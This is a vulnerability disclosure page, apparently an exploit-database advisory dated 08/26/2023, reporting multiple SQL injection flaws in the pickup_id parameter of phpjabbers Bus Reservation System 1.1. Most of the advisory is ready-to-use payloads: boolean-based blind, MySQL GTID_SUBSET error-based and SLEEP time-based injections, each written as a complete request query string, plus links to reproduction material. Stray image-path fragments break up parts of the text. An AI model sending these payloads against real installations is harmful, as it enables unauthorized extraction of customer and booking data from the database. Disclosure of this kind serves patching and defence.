Bus Reservation System-1.1 Multiple-SQLi

Risk: Low
Local: No
Remote: Yes

## Title: Bus Reservation System-1.1 Multiple-SQLi ## Author: nu11secur1ty ## Date: 08/26/2023 ## Vendor: https://www.phpjabbers.com/ ## Software: https://demo.phpjabbers.com/1693027053_628/preview.php?lid=1 ## Reference: https://portswigger.net/web-security/sql-injection ## Description: The `pickup_id` parameter appears to be vulnerable to SQL injection attacks. The payload ' was submitted in the pickup_id parameter, and a database error message was returned. You should review the contents of the error message, and the application's handling of other input, to confirm whether a vulnerability is present. The attacker can steal information from all database! STATUS: HIGH-CRITICAL Vulnerability [+]Payload: ```mysql --- Parameter: pickup_id (GET) Type: boolean-based blind Title: Boolean-based blind -Parameter replace (original value) Payload:controller=pjFrontEnd&action=pjActionGetLocations&locale=1&hide=0&index=6138&pickup_id=(SELECT (CASE WHEN (3959=3959) THEN 0x3927 ELSE (SELECT 8499 UNION SELECT 2098) END))&session_id= Type: error-based Title: MySQL >= 5.6 error-based - Parameter replace (GTID_SUBSET) Payload: controller=pjFrontEnd&action=pjActionGetLocations&locale=1&hide=0&index=6138&pickup_id=GTID_SUBSET(CONCAT(0x71626b7a71,(SELECT (ELT(5210=5210,1))),0x716a6b7171),5210)&session_id= Type: time-based blindTitle: MySQL >= 5.0.12 time-based blind -Parameter replace (substraction) Payload: controller=pjFrontEnd&action=pjActionGetLocations&locale=1&hide=0&index=6138&pickup_id=(SELECT 2616 FROM (SELECT(SLEEP(15)))clIR)&session_id= --- ``` ## Reproduce: [href](https://github.com/nu11secur1ty/CVE-nu11secur1ty/tree/main/vendors/phpjabbers/2023/Bus-Reservation-System-1.1-Multiple-SQLi) ## Proof and Exploit: [href](https://www.nu11secur1ty.com/2023/08/bus-reservation-system-11-multiple-sqli.html) ## Time spend: 00:25:00 -- System Administrator - Infrastructure Engineer Penetration Testing Engineer Exploit developer at https://packetstormsecurity.com/ https://cve.mitre.org/index.html https://cxsecurity.com/ and https://www.exploit-db.com/ 0day Exploit DataBase https://0day.today/ home page: https://www.nu11secur1ty.com/ hiPEnIMR0v7QCo/+SEH9gBclAAYWGnPoBIQ75sCj60E= nu11secur1ty <http://nu11secur1ty.com/>

Vote for this issue:


Thanks for you vote!Thanks for you comment!
Your message is in quarantine 48 hours.

Comment it here.

(*) - required fields.
{{ x.nick }} | Date: {{ x.ux * 1000 | date:'yyyy-MM-dd' }} {{x.ux * 1000 | date:'HH:mm' }} CET+1
{{x.comment }}

Copyright 2023,cxsecurity.com


Back to Top